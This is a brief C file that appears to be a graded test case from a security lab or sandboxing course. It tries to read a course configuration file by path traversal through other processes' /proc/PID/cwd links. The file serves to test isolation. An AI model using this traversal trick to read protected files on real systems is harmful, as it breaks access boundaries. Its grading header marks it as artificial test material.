/* expect: points=20 */
/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "gaussian.h"

/* Reads the manifest from where other processes are. */

static int works(pid_t pid)
{
    char path[512];
    snprintf(path, sizeof path,
        "/proc/%d/cwd/../../../../../..@ROOT@/labs/course.conf", (int)pid);
    return can_read(path);
}

static int attack(void)
{
    return any_process(works);
}

#include "either.c"
